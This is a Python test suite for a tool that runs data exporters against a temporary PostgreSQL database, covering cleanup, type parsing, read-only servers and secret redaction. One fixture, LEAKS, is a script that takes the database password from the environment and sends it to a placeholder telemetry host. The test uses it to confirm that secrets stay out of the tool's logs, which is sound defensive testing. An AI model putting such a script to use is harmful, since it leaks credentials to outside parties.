"""Exporters on trial that load into a real PostgreSQL: healthy ones, defective ones, and what becomes of the server."""

from __future__ import annotations

import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import psycopg
import pytest

from clari_readiness.environments import load
from clari_readiness.errors import NotVerified, SettingsError, WarehouseError
from clari_readiness.model.time import SystemClock
from clari_readiness.trial import Pace, Verdict, Wishes, accused_of
from clari_readiness.trial.preview import preview
from clari_readiness.trial.rows import FORECASTS, TableNames
from clari_readiness.trial.warehouses.postgres import Postgres, PostgresWarehouse
from clari_readiness.trial.warehouses.postgres_url import same_database, secrets_in, url_of
from clari_readiness.trial.warehouses.wording import shown_url
from tests.elsewhere import new_database
from tests.sabotage.specimens import Specimen, caught_in
from tests.servers import GUARDED
from tests.trial.conftest import Try
from tests.trial.test_trial_command import SETTINGS, trial

PASSWORD = "hunter-2/ü@:%"
DEFECTS = caught_in("postgres")
TELLING = (
    "process_no_room",
    "process_session_broken",
    "process_killed_at_a_post",
    "duplicates_two_at_once",
    "pages_sizes",
)


@pytest.fixture
def server(postgres: str) -> Iterator[psycopg.Connection[Any]]:
    with psycopg.connect(postgres, autocommit=True) as connection:
        yield connection


@pytest.fixture
def role(server: psycopg.Connection[Any]) -> Iterator[Callable[[str], str]]:
    """Make roles whose password the server asks for, and drop them in the end."""
    made = []

    def make(may: str) -> str:
        made.append(f"{GUARDED}_{uuid4().hex[:8]}")
        server.execute(f"CREATE ROLE {made[-1]} LOGIN PASSWORD '{PASSWORD}' {may}")
        return made[-1]

    yield make
    for name in made:
        server.execute(f"DROP ROLE {name}")


def databases(server: psycopg.Connection[Any]) -> set[str]:
    return {name for (name,) in server.execute("SELECT datname FROM pg_database").fetchall()}


def specimen(defect: str, url: str) -> Specimen:
    caught_by = DEFECTS[defect] if defect else ""
    defects = f"postgres+postgres.{defect}" if defect else "postgres"
    return Specimen(defect, ("plain", "into", "postgres"), url, caught_by, defects)


def test_the_reference_exporter_keeps_the_laws_in_a_server_and_leaves_nothing_behind(
    tried: Try, url: str, server: psycopg.Connection[Any]
) -> None:
    outcomes = tried("reference", url, *TELLING)
    assert {name: (each.verdict, each.sentence) for name, each in outcomes.items()} == dict.fromkeys(
        ("healthy", *TELLING), (Verdict.KEPT, "")
    )
    assert not server.execute("SELECT 1 FROM pg_tables WHERE tablename = 'forecast_entries'").fetchall()


def test_a_healthy_exporter_of_somebody_elses_keeps_what_defective_ones_break(tmp_path: Path, url: str) -> None:
    names = sorted({*DEFECTS.values()})
    outcomes = {each.scenario: (each.verdict, each.sentence) for each in specimen("", url).outcomes(tmp_path, names)}
    assert outcomes == dict.fromkeys(("healthy", *names), (Verdict.KEPT, ""))


@pytest.mark.parametrize("defect", DEFECTS)
def test_a_defect_is_caught_by_its_scenario_and_not_by_the_healthy_run(tmp_path: Path, url: str, defect: str) -> None:
    accused = specimen(defect, url)
    names = accused.must_be_caught_by
    verdicts = {each.scenario: each.verdict for each in accused.outcomes(tmp_path, names)}
    assert verdicts == {"healthy": Verdict.KEPT, **dict.fromkeys(names, Verdict.BROKEN)}


def test_the_databases_of_a_killed_trial_go_and_those_of_one_that_runs_stay(
    postgres: str, url: str, server: psycopg.Connection[Any]
) -> None:
    now = int(time.time())
    old, used, young = (f"clari_trial_{now - age}_{uuid4().hex[:12]}" for age in (3_600, 3_600, 5))
    theirs = f"clari_trial_{uuid4().hex[:8]}"
    for name in (old, used, young, theirs):
        server.execute(f"CREATE DATABASE {name}")
    with psycopg.connect(postgres.replace("/postgres?", f"/{used}?")):
        Postgres(url).prepare()
        assert databases(server) & {old, used, young, theirs} == {used, young, theirs}
    for name in (used, young, theirs):
        server.execute(f"DROP DATABASE {name}")


def test_a_scenario_has_a_database_of_its_own_which_goes_whoever_is_still_connected(
    url: str, tmp_path: Path, server: psycopg.Connection[Any]
) -> None:
    trials = Postgres(url)
    before = databases(server)
    with trials.made(tmp_path) as one, trials.made(tmp_path) as other:
        made = {psycopg.conninfo.conninfo_to_dict(each.url)["dbname"] for each in (one, other)}
        assert len(made) == 2
        assert made <= databases(server) - before
        assert (one.path, one.secrets, one.rows({}).tables) == (None, (), {})
        left_open = psycopg.connect(one.url)
    assert not made & databases(server)
    with pytest.raises(psycopg.OperationalError):
        left_open.execute("SELECT 1")


COLUMNS = "forecast_name text, time_period text, time_frame_id text, user_id text, field_id text"
TYPES = (
    ("numeric(20, 2)", "timestamptz", "'2026-11-21 10:00:00+01'"),
    ("text", "timestamp", "'2026-11-21 09:00:00'"),
    ("double precision", "bigint", "1795251600000"),
    ("real", "text", "'2026-11-21T09:00:00Z'"),
)


@pytest.mark.parametrize(("amount", "moment", "at"), TYPES)
def test_amounts_moments_and_texts_are_read_exactly_whatever_their_type(
    place: PostgresWarehouse, exporter: psycopg.Connection[Any], amount: str, moment: str, at: str
) -> None:
    exporter.execute(
        f"CREATE TABLE clari_forecasts ({COLUMNS}, forecast_amount {amount}, quota_amount {amount},"
        f" crm_closed {amount}, exported_at {moment}, owner_name text)"
    )
    name = "\u202eO'Brien \U0001f600 \\N"
    values = f"'f', '2027_Q4', 't', 'u', 'x', 10.10, NULL, '0', {at}, %s"
    exporter.execute(f"INSERT INTO clari_forecasts VALUES ({values})", (name,))  # noqa: S608 - literals
    exporter.close()
    rows = place.rows({})
    (row,) = rows.forecasts
    found = [row[each] for each in ("forecast_amount", "quota_amount", "crm_closed", "exported_at", "owner_name")]
    assert found == [Decimal("10.1"), None, Decimal(0), datetime(2026, 11, 21, 9, tzinfo=UTC), name]
    assert rows.absent == {"currency", "owner_email", "job_id"}


def test_tables_and_columns_are_found_by_the_names_that_the_exporter_gave_them(
    place: PostgresWarehouse, exporter: psycopg.Connection[Any]
) -> None:
    exporter.execute("CREATE SCHEMA analytics")
    exporter.execute(
        f'CREATE TABLE analytics."Fct" ({COLUMNS}, "Amt%" numeric, quota_amount numeric, crm_closed numeric)'
    )
    exporter.execute("""INSERT INTO analytics."Fct" VALUES ('f', '2027_Q4', 't', 'u', 'x', 1, 2, 3)""")
    exporter.close()
    mapped = {FORECASTS: TableNames("analytics.fct", {"forecast_amount": "amt%"})}
    assert [row["forecast_amount"] for row in place.rows(mapped).forecasts] == [Decimal(1)]
    assert place.rows({}).tables == {}
    with pytest.raises(WarehouseError, match=r"analytics\.fct has no column forecast_amount; it has forecast_name, "):
        place.rows({FORECASTS: TableNames("analytics.fct")})


def test_rows_are_read_when_the_statement_of_a_dead_exporter_has_ended(
    place: PostgresWarehouse, exporter: psycopg.Connection[Any]
) -> None:
    exporter.execute("CREATE TABLE opportunities (opportunity_id text)")
    slow = """INSERT INTO opportunities
        SELECT CASE WHEN number > 1 THEN CAST(pg_sleep(0.7) AS text) ELSE '' END FROM generate_series(1, 2) AS number"""
    at_work = threading.Thread(target=lambda: (exporter.execute(slow), exporter.close()))
    at_work.start()
    _until(lambda: place.seen() != frozenset() or not at_work.is_alive())
    assert len(place.rows({}).opportunities) == 2
    at_work.join()


def test_a_session_that_does_not_end_is_told_and_nothing_is_read(place: PostgresWarehouse) -> None:
    with (
        closing(PostgresWarehouse.open(place.url, SystemClock(), patience=0.1)) as impatient,
        pytest.raises(
            WarehouseError, match=r"a session of the exporter's is still there 0\.1 s after its end: process"
        ),
    ):
        impatient.rows({})


def test_who_writes_is_seen_from_outside_and_who_reads_is_not(
    place: PostgresWarehouse, exporter: psycopg.Connection[Any]
) -> None:
    exporter.execute("CREATE TABLE t (a integer)")
    nobody = place.seen()
    with exporter.transaction():
        exporter.execute("SELECT * FROM t")
        assert place.seen() == nobody
        exporter.execute("INSERT INTO t VALUES (1)")
        first = place.seen()
        assert first != nobody
    assert place.seen() == nobody
    with exporter.transaction():
        exporter.execute("INSERT INTO t VALUES (2)")
        assert place.seen() not in (nobody, first)


def test_a_full_server_takes_no_changes_and_then_does_again(
    place: PostgresWarehouse, exporter: psycopg.Connection[Any]
) -> None:
    exporter.execute("CREATE TABLE t (a integer)")
    with place.full() as file_size:
        assert file_size is None
        with psycopg.connect(place.url) as run, pytest.raises(psycopg.errors.ReadOnlySqlTransaction):
            run.execute("INSERT INTO t VALUES (1)")
    with psycopg.connect(place.url) as run:
        run.execute("INSERT INTO t VALUES (2)")
        assert run.execute("SELECT a FROM t").fetchall() == [(2,)]


LEAKS = """
import os, sys, urllib.parse, urllib.request
url = os.environ["WAREHOUSE_URL"]
password = urllib.parse.urlsplit(url).password
plain = urllib.parse.unquote(password)
print("held by", sorted(name for name, value in os.environ.items() if password in value or plain in value), flush=True)
for to in (os.environ["CLARI_BASE_URL"], "http://telemetry.example.com"):
    try:
        urllib.request.urlopen(f"{to}/{password}?url={urllib.parse.quote(url)}", timeout=5)
    except OSError as error:
        print(error, file=sys.stderr)
print(f"cannot connect with {url} as {plain}", file=sys.stderr)
sys.exit(1)
"""


def test_a_password_reaches_the_exporter_alone_and_in_one_variable(
    url: str, role: Callable[[str], str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "leaks.py").write_text(LEAKS)
    whole = url.replace("postgres@", f"{role('CREATEDB')}:{quote(PASSWORD, safe='')}@", 1)
    monkeypatch.setenv("TRIAL_WAREHOUSE", whole)
    options = ("--exporter", "python3 leaks.py", "--warehouse", "env://TRIAL_WAREHOUSE", "--time-scale", "20")
    shown = preview(accused_of(None, Wishes("true", "env://TRIAL_WAREHOUSE")), Pace(), {})
    ended = trial(tmp_path, *options, "--json", "found.json")
    assert ended.returncode == 1, ended.stdout + ended.stderr
    assert shown["WAREHOUSE_URL"] == "postgresql://USER:PASSWORD@/A DATABASE MADE FOR THE RUN?host=..."
    assert "WAREHOUSE_PATH" not in shown
    evidence = tmp_path / ".readiness" / "trial" / "healthy"
    assert "held by ['WAREHOUSE_URL']" in (evidence / "output.txt").read_text()
    assert "--warehouse env://TRIAL_WAREHOUSE" in (evidence / "again.txt").read_text()
    files = [path for path in tmp_path.rglob("*") if path.is_file()]
    assert {path.name for path in files} >= {"journal.har", "broken.json", "runs.json", "trial.json", "found.json"}
    said = [*(path.read_text() for path in files), *shown.values(), ended.stdout, ended.stderr]
    for each in (PASSWORD, quote(PASSWORD, safe=""), quote(PASSWORD)):
        assert not any(each in text for text in said)


def test_a_password_of_the_callers_surroundings_is_in_the_url_that_the_exporter_gets(
    url: str, role: Callable[[str], str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    named = url.replace("postgres@", f"{role('CREATEDB')}@", 1)
    monkeypatch.setenv("PGPASSWORD", PASSWORD)
    with Postgres(named).made(tmp_path) as made:
        assert made.secrets == (PASSWORD,)
        with monkeypatch.context() as alone:
            alone.delenv("PGPASSWORD")
            psycopg.connect(made.url).close()


def test_a_role_that_may_make_no_database_is_one_line_and_nothing_is_started(
    url: str, role: Callable[[str], str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PGPASSWORD", PASSWORD)
    name = role("")
    ended = trial(tmp_path, "--exporter", "touch started", "--warehouse", url.replace("postgres@", f"{name}@", 1))
    assert (ended.returncode, len(ended.stderr.splitlines())) == (4, 1), ended.stderr
    assert f"the role {name} may not make databases" in ended.stderr
    assert f'ALTER ROLE "{name}" CREATEDB' in ended.stderr
    assert PASSWORD not in ended.stderr
    assert not (tmp_path / "started").exists()


def test_a_server_that_cannot_be_reached_could_not_be_looked_at() -> None:
    with pytest.raises(NotVerified) as caught:
        Postgres("postgresql://me:hunter2@127.0.0.1:1/postgres").prepare()
    assert str(caught.value).startswith("postgresql://127.0.0.1:1/postgres cannot be reached: ")
    assert str(caught.value).endswith("look at host and port in the URL of the trial's warehouse")
    assert "hunter2" not in str(caught.value)


def test_the_teams_own_warehouse_is_no_place_for_a_trial_and_nobody_connects_with_it(
    postgres: str, tmp_path: Path, server: psycopg.Connection[Any]
) -> None:
    own = new_database(postgres).replace(":@", "@")
    name = str(psycopg.conninfo.conninfo_to_dict(own)["dbname"])
    for mine in (own, own.replace("host=", "port=5432&host=")):
        with pytest.raises(SettingsError, match=r"is the warehouse of `warehouse\.url`, and no place for a trial"):
            Postgres(mine, lambda: own).prepare()
    warehouse = f'warehouse.url = "{own}"\ntrial = {{ warehouse = "{own}" }}\n'
    (tmp_path / "clari-readiness.toml").write_text(SETTINGS + warehouse)
    accused = accused_of(load(tmp_path / "clari-readiness.toml", environ={}).get("prod"), Wishes())
    with pytest.raises(SettingsError, match="no place for a trial"):
        accused.warehouses.prepare()
    assert not server.execute("SELECT 1 FROM pg_stat_activity WHERE datname = %s", (name,)).fetchall()
    Postgres(own.replace(name, "postgres"), lambda: own).prepare()


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        ("postgresql://a:b@DB:5432/x", "postgres://c@db/x?sslmode=require", True),
        ("postgresql://a@localhost/x", "postgresql://b@127.0.0.1/x", True),
        ("postgresql://a@h1,h2/x", "postgresql://a@h2/x", True),
        ("postgresql://a@h/x", "postgresql://a@h/y", False),
        ("postgresql://a@h/x", "postgresql://a@h:5433/x", False),
        ("postgresql://a@h/x", "postgresql://a@g/x", False),
        ("postgresql://x@h", "postgresql://a@h/x", True),
        ("postgresql://a@h/x", "snowflake://a@h/x", False),
    ],
)
def test_two_urls_name_one_database_by_host_port_and_name(one: str, other: str, same: bool) -> None:
    assert same_database(one, other) is same
    assert same_database(other, one) is same


@pytest.mark.parametrize(
    ("url", "host", "made"),
    [
        ("postgres://db/x?sslmode=require", "db", "postgresql://me:p%40s%2Fs@db:5433/D?sslmode=require"),
        (
            "postgresql:///x?user=me&password=p%40s%2Fs",
            "/run/pg",
            "postgresql://me:p%40s%2Fs@/D?host=/run/pg&port=5433",
        ),
        ("postgresql://a,b/x?options=-c%20a%3Db+c", "b", "postgresql://me:p%40s%2Fs@b:5433/D?options=-c%20a%3Db%2Bc"),
        ("postgresql://?service=trial", "::1", "postgresql://me:p%40s%2Fs@[::1]:5433/D"),
    ],
)
def test_the_url_of_a_scenarios_database_is_whole(url: str, host: str, made: str) -> None:
    session: Any = SimpleNamespace(host=host, port=5433, user="me", password="p@s/s")
    assert url_of(url, session, "D") == made
    assert secrets_in(made) == ("p@s/s",)


def test_a_url_is_shown_without_anything_that_could_be_secret() -> None:
    url = "postgresql://me:p%40ss@db:5433/x?sslpassword=se%20cret&sslmode=require"
    assert shown_url(url, "D") == "postgresql://USER:PASSWORD@db:5433/D?sslpassword=...&sslmode=..."
    assert set(secrets_in(url)) == {"p@ss", "se cret"}


def test_a_url_that_cannot_be_read_is_a_mistake_and_is_not_repeated() -> None:
    with pytest.raises(SettingsError, match="is not one that PostgreSQL reads") as caught:
        Postgres("postgresql://me:hunter2@[127/postgres")
    assert "hunter2" not in str(caught.value)
    assert caught.value.__context__ is None


def test_a_reference_is_resolved_when_it_is_needed_and_not_before(monkeypatch: pytest.MonkeyPatch) -> None:
    accused = accused_of(None, Wishes("true", "env://TRIAL_WAREHOUSE"))
    with pytest.raises(SettingsError, match="environment variable TRIAL_WAREHOUSE is not set"):
        accused.warehouses.prepare()
    monkeypatch.setenv("TRIAL_WAREHOUSE", "postgresql://me@127.0.0.1:1/postgres")
    with pytest.raises(NotVerified, match="cannot be reached"):
        accused.warehouses.prepare()


def _until(true: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 20
    while not true():
        assert time.monotonic() < deadline
        time.sleep(0.005)
